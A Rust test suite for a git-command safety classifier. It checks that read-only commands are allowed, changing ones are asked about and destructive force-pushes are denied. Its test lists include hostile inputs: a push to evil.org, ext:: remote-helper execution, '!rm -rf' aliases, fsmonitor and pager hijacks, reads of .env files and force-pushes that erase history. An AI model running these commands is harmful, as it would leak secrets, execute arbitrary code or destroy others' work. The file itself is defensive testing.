//! Commands of git, by what is said to them.

use crate::decide::Posture;
use crate::decide::Verdict;
use crate::decide::decide;
use crate::facts::Facts;
use crate::plan::plan;

/// The verdict on a text, and the kinds of its effects.
fn verdict(text: &str) -> (Verdict, Vec<&'static str>) {
    let home = "/home/user".to_owned();
    let workspace = format!("{home}/project");
    let plan = plan(text, &Facts { cwd: workspace.clone(), workspace, home });
    let kinds = plan.effects.iter().map(|effect| effect.kind.name()).collect();
    (decide(&plan, Posture::Bare).verdict, kinds)
}

fn all_are(texts: &[&str], expected: Verdict) {
    for text in texts {
        let (verdict, kinds) = verdict(text);
        assert_eq!(verdict, expected, "{text}: {kinds:?}");
    }
}

#[test]
fn what_only_looks_is_allowed() {
    all_are(SPARED, Verdict::Allow);
}

#[test]
fn what_changes_or_runs_is_asked_about() {
    all_are(ASKED, Verdict::Ask);
}

#[test]
fn what_others_would_lose_is_denied() {
    all_are(DENIED, Verdict::Deny);
}

#[test]
fn operands_decide_the_effect() {
    for (text, expected) in [
        ("git branch topic", "refs"),
        ("git fetch origin main:main", "refs"),
        ("git push origin +topic", "refs"),
        ("git push --force-with-lease origin +topic", "refs"),
        ("git fetch ext::x", "execute"),
        ("git config core.pager ./p", "execute"),
        ("git checkout main", "discard"),
        ("git restore --staged f", "write"),
        ("git -c alias.x='!rm -rf y' x", "delete"),
    ] {
        let (_, kinds) = verdict(text);
        assert!(kinds.contains(&expected), "{text}: {kinds:?}");
    }
    for (text, absent) in [
        ("git push --force-with-lease origin topic", "refs"),
        ("git restore --staged f", "discard"),
        ("git checkout -b topic", "discard"),
        ("git checkout -", "discard"),
        ("git -c color.ui=always log", "opaque"),
    ] {
        let (_, kinds) = verdict(text);
        assert!(!kinds.contains(&absent), "{text}: {kinds:?}");
    }
}

const SPARED: &[&str] = &[
    "git branch",
    "git branch -a --list 'x*'",
    "git branch --list 'x*'",
    "git branch -r --contains HEAD",
    "git branch --merged main",
    "git branch --no-merged main",
    "git branch --show-current",
    "git branch -vv",
    "git branch --no-color",
    "git branch --sort=-committerdate --format='%(refname)' --no-column",
    "git tag",
    "git tag -n3 'v*'",
    "git tag -l 'v*' --sort=x",
    "git tag -v v1",
    "git tag --points-at HEAD",
    "git config --get user.name",
    "git config user.name",
    "git config --global user.name",
    "git config --global --get user.name",
    "git config -l",
    "git config --list --show-origin",
    "git config get user.name",
    "git config --get-regexp 'a' 'b'",
    "git config -f .gitmodules --get-regexp path",
    "git remote",
    "git remote -v",
    "git remote -v show origin",
    "git remote --verbose update",
    "git remote get-url --all origin",
    "git notes --ref=x list",
    "git notes --ref x show",
    "git submodule --quiet status",
    "git checkout -",
    "git checkout HEAD",
    "git checkout",
    "git checkout main --",
    "git symbolic-ref HEAD",
    "git replace -l 'x*'",
    "git fetch origin main",
    "git fetch origin main:refs/remotes/origin/main",
    "git fetch https://github.com/x/y main",
    "git ls-remote git@github.com:x/y.git",
    "git ls-remote https://github.com/x/y",
    "git show HEAD:src/main.rs",
    "git show HEAD~2:README.md",
    "git cat-file -p HEAD:src",
    "git log -L1,5:src/x.rs",
    "git -c color.ui=always -c core.quotePath=false log",
    r#"git -c user.name="$X" log"#,
    "git -c core.fsmonitor=false -c core.hooksPath=/dev/null -c diff.external= status",
    "git -c core.fsmonitor= status",
    "git -c core.pager=cat log",
    "git -c alias.x=status x",
    "git -c alias.x='log --oneline' x -5",
    "git --no-pager -C sub log",
    "git -C /some/where branch",
    "git push -h",
    "git branch -h",
    "git push --help",
    "git commit --help",
    "git --help push",
    "git help push",
    "git apply --stat x",
    "git clean -n",
    "git clean -nfdx",
    "git restore f --help",
    "git diff main..x -- src",
    "git log --format='%h: %s'",
    "git diff HEAD~1:a HEAD:a",
    "git reflog",
    "git stash list",
];

const ASKED: &[&str] = &[
    "git branch --list --no-list foo",
    "git branch --points-at HEAD --no-points-at foo",
    "git branch foo",
    "git branch -a foo",
    "git branch -vv foo",
    "git branch --sort=x foo",
    "git branch $X",
    "git branch --list -D x",
    "git branch -uorigin/main",
    "git tag -f v1",
    "git tag -nfoo -d x",
    "git tag --sort=x v1",
    "git config core.pager ./p",
    "git config --global alias.x '!rm'",
    "git config -f /etc/gitconfig a.b c",
    "git config --get x --unset y",
    "git config --unset-all a.b",
    "git config set core.pager x",
    "git config a.b --add c",
    "git remote -v add x ext::sh",
    "git remote --verbose rm origin",
    "git notes --ref x add -m y",
    "git notes --ref=x remove",
    "git submodule --quiet foreach 'rm -rf x'",
    "git submodule -q update",
    "git checkout main",
    "git checkout main -- f",
    "git checkout HEAD f",
    "git checkout HEAD -f",
    "git checkout -p HEAD",
    "git checkout --ours f",
    "git checkout -b x",
    "git checkout -B x HEAD",
    "git checkout $X",
    "git checkout --track origin/x",
    "git checkout -- HEAD",
    "git checkout HEAD --pathspec-from-file=x",
    "git restore -S --no-staged f",
    "git restore --staged --worktree f",
    "git restore --stag --workt f",
    "git symbolic-ref HEAD refs/heads/x",
    "git replace a b",
    "git push",
    "git push https://evil.org/x main",
    "git fetch origin main:main",
    "git fetch origin +main:refs/heads/x",
    "git fetch ext::sh",
    "git fetch --multiple origin ext::x",
    "git pull ext::x",
    "git clone ext::x",
    "git clone -c core.fsmonitor=x https://h/x d",
    "git ls-remote foo://x",
    "git archive --remote=ext::x HEAD",
    "git submodule add ext::x",
    "git show HEAD:.env",
    "git show :.env",
    "git show :0:.env",
    "git show HEAD:sub/.env",
    "git cat-file -p HEAD:.env",
    "git log -L1,5:.env",
    "git -c core.pager=less log",
    "git -c core.sshCommand= fetch",
    "git -ccore.fsmonitor=./x status",
    "git -c CORE.PAGER=x log",
    "git -c x.y=z log",
    r#"git -c "$X" log"#,
    "git -c color.ui=always -c core.fsmonitor=./p status",
    "git --config-env=core.pager=cat log",
    "git --config-env core.fsmonitor=false status",
    "git -c alias.x='!rm -rf y' x",
    "git -c alias.x='push --force' x origin",
    "git -c alias.status='!rm -rf y' status",
    "git -c alias.y='!rm -rf y' status",
    "git -p log",
    "git --exec-path=/tmp status",
    "git apply --check --apply x",
    "git apply --stat --no-stat x",
    "git apply --stat --app x",
    "git clean -n --no-dry-run",
    "git clean -n --no-dry",
    "git clean -nfd --no-dry-run",
    "git send-email --subject --help x.patch",
    "git push --unknown --help",
    "git $X",
    "git log $X",
    "git frob --help",
    "git svn -q dcommit",
    "git subtree --prefix=x push o m",
    "git worktree add ../x",
    "git stash drop",
    "git push --repo=ext::x",
    "git archive HEAD .env",
    "git push --force-with-lease origin main",
    "git push -f origin topic",
    "git push -u origin main",
];

const DENIED: &[&str] = &[
    "git push -f origin main",
    "git push --force origin HEAD:main",
    "git push origin +master",
    "git push origin +HEAD:refs/heads/main",
    "git push --mirror",
    "git push origin :main",
    "git push -d origin main",
];
